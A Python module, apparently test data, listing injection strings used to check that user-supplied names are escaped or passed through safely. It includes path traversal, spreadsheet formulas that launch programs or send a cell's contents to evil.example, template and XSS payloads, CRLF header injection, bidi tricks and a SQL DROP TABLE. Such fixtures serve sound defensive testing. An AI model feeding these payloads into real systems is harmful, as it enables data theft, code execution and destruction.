"""Names that would do something elsewhere: in a shell, a file system, a spreadsheet, a template, a page, a terminal."""

from typing import Final

NAMES: Final = {
    "path upwards": "../../../etc/passwd",
    "path": "/etc/passwd",
    "backslashes": "..\\..\\windows\\system.ini",
    "formula": "=cmd|'/c calc'!A1",
    "hyperlink": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "format": "{0.__class__}%(x)s%n%n",
    "image": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(1)</script>",
    "handler": "\" onmouseover=alert(1) x='",
    "link": "[x](javascript:alert(1))",
    "typst": '#eval("1")#read("/etc/passwd")$x$',
    "colour": "[bold red]red[/bold red]",
    "line end": "a\r\nSet-Cookie: x=1",
    "tab": "\t=1+1",
    "escape": "\x1b[31mred\x1b]0;title\x07",
    "NUL": "a\x00b",
    "right to left": "a\u202egnp.exe",
    "isolate": "\u2066a\u2069\u200f",
    "invisible": "a\u200b\ufeffb",
    "device": "CON",
    "dots": "..",
    "SQL": "'; DROP TABLE kept; --",
    "long": "x" * 10_000_000,
}
"""By what they are."""

HARMLESS: Final = {name: text for name, text in NAMES.items() if text.isprintable() and len(text) < 200}
"""Those that may well be somebody's words, and must come out as they went in."""
